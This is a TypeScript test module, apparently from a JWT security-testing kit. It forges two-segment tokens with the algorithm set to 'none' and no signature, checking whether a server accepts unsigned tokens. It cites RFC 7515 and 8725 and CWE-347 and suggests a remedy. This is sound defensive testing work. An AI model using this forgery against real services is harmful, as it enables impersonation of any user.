import { encodeSegment, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/alg-none-no-dot',
  rows: ['token.alg-none.no-dot'],
  title: 'Algorithm none in a token of two segments, without the last dot',
  requirement: 'RFC 7515 section 7.1: a compact JWS has three segments; RFC 8725 section 3.1: no unsigned tokens',
  impact: 'A parser that splits and does not count lets anyone become any user.',
  remedy: 'Leave parsing to the JWT library and pass it the list of algorithms; do not split tokens by hand.',
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['RFC 8725 section 3.1', 'RFC 7515 section 7.1'],
  provenBy: 'two-segments',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    return ['none', header.alg].map((alg) => ({
      name: `two segments, alg "${String(alg)}"`,
      token: `${encodeSegment({ ...header, alg })}.${encodeSegment(payload)}`,
    }))
  },
})
